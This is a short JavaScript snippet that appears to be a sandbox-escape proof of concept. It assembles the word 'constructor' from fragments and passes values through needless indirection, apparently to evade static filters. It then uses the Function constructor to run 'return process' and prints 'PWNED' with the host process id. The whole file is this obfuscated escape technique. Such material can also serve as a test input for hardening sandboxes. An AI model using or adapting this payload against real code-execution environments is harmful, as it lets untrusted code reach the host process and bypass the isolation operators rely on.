'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
function f() { return arguments[0]; }
const o = Date.now() > 1 ? f(t) : {};
console.log('PWNED', o.go(fn)('return process')().pid);
